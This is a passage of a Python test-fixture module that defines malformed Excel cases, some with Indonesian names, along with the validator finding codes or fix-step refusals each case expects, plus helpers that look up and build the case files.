                                                _hide(SHEET_RPJMD, "veryHidden"))),
         ("findings", frozenset({"INP014"}))),
    Case("nama_lembar_beda.xlsx", edited(_sheet_names_case_space),
         ("findings", frozenset()), absent=frozenset({"INP006"})),
    # --- values
    Case("tanggal_di_kolom_angka.xlsx",
         edited(_set(SHEET_MEASUREMENT, "G4", datetime.date(2019, 12, 31))),
         ("findings", frozenset({"INP003"}))),
    Case("boolean_di_kolom_angka.xlsx", edited(_set(SHEET_MEASUREMENT, "G4", True)),
         ("findings", frozenset({"INP003"}))),
    Case("nilai_galat.xlsx", _error_values, ("findings", frozenset({"INP004"}))),
    Case("rumus_tanpa_nilai.xlsx", edited(_formula_cells), ("findings", frozenset({"INP005"}))),
    Case("negatif_dan_nol.xlsx", with_rows(pengukuran=pengukuran(target=0, realisasi=-5)),
         ("findings", frozenset({"CAP005"})), note="target 0: never divided"),
    Case("angka_raksasa.xlsx", with_rows(pengukuran=pengukuran(target=1e300, realisasi=1e308,
                                                               capaian=1e308)),
         ("findings", frozenset({"CAP001"}))),
    Case("tak_hingga.xlsx", _non_finite, ("fix-refuses", frozenset({"INP003"})),
         fix_refusal="fix.cannot_load", note="NaN and inf: calamine reads them, openpyxl not"),
    Case("angka_sebagai_teks.xlsx", _text_numbers_everywhere,
         ("findings", frozenset({"INP001", "INP002"}))),
    Case("teks_sangat_panjang.xlsx", edited(_long_strings), ("findings", frozenset({"INP003"}))),
    Case("karakter_kendali.xlsx", _control_chars, ("findings", frozenset({"INP001"}))),
    Case("suntikan_rumus.xlsx", edited(_hostile_texts), ("findings", frozenset({"INP003"}))),
    Case("tanpa_alamat_berawalan.xlsx", spoiled(_strict_namespace), ("findings", frozenset()),
         absent=frozenset({"INP010"}), note="x: prefix, cells without addresses: read"),
    # --- fix cannot write it faithfully
    Case("tabel_pivot.xlsx", spoiled(_pivot_part), ("fix-refuses", frozenset()),
         fix_refusal="fix.drop.refuse"),
)


def case(name: str) -> Case:
    return next(c for c in CASES if c.name == name)


def build_all(folder: Path) -> dict[str, Path]:
    """Every case's file in `folder` (created), by case name."""
    folder.mkdir(parents=True, exist_ok=True)
    return {c.name: c.build(folder / c.name) for c in CASES}
